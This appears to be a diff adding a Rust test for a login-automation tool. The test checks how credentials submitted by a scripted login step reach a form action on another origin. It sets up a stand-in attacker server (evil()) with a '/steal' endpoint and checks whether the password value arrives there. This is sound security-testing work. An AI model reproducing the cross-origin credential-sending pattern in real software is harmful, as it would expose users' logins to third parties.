@@ -53,6 +53,24 @@ fn a_form_that_is_sent_to_another_origin() {
     kept(server, pages);
 }
 
+/// The steps of one's own are held to the same, and what they ask for by its address is where people log in.
+#[test]
+fn a_form_that_a_step_of_a_login_sends_to_another_origin() {
+    let server = |elsewhere: &str| {
+        let action = format!("{elsewhere}/steal");
+        Server::start(move |r: &Request| if r.path == "/login" { page(&action) } else { status(200) })
+    };
+    let steps = |at: &str| {
+        format!(
+            "{{ scheme: login, login: [ {{ request: GET {at}/login }}, {{ submit: {{ fields: {{ username: '{{{{ identity.username }}}}', password: '{{{{ identity.password }}}}' }} }} }} ] }}"
+        )
+    };
+    kept(server, &steps(""));
+    let elsewhere = evil();
+    run(&Server::start(|_| status(200)), &steps(&elsewhere.url), "");
+    assert!(elsewhere.seen().iter().any(|r| r.body.contains("right-ann-of-7")));
+}
+
 #[test]
 fn a_login_page_that_leads_to_another_origin() {
     let server = |elsewhere: &str| {
